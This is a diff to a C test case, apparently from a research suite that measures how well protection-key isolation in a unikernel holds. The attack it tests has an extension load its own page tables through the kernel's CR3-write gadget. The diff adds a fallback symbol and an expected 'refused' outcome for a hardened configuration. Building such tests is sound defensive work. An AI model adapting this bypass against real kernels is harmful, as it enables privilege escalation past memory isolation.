@@ -3,17 +3,20 @@
   "title": "Page tables of the extension's own, loaded by the unikernel's MOV to CR3: no check behind it can help, as the next fetch is the attacker's already",
   "precondition": "CR4.PKE = 1",
   "reference": "Dautenhahn et al., Nested Kernel: An Operating System Architecture for Intra-Kernel Privilege Separation, ASPLOS 2015, section 3",
-  "symbols": ["write_cr3"],
+  "symbols": ["write_cr3", "once_write_cr3"],
   "cells": {
     "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
-    "uio-mpk": {"outcome": "escaped", "rule": "I3", "event": "controlRegisterWrite"}
+    "uio-mpk": {"outcome": "escaped", "rule": "I3", "event": "controlRegisterWrite"},
+    "mpk-hardened": {"outcome": "refused"}
   }
 }
 */
 #include "attack.h"
 #include "processor.h"
 
-void write_cr3_gadget(uint64_t value) __asm__("write_cr3");
+// The unikernel's, by one of its names. One that is unmapped after the boot is there by name only.
+void write_cr3_gadget(uint64_t value) __asm__("write_cr3") __attribute__((weak));
+void once_write_cr3(uint64_t value) __attribute__((weak));
 
 static uint64_t tables[5 * 512];
 
@@ -35,7 +38,7 @@ static uint64_t own_tables(void) {
 }
 
 int main(void) {
-  BYPASS_OF_KEYS(write_cr3_gadget(own_tables()));
+  BYPASS_OF_KEYS((write_cr3_gadget ? write_cr3_gadget : once_write_cr3)(own_tables()));
   GOAL_COUNT();
   return 0;
 }
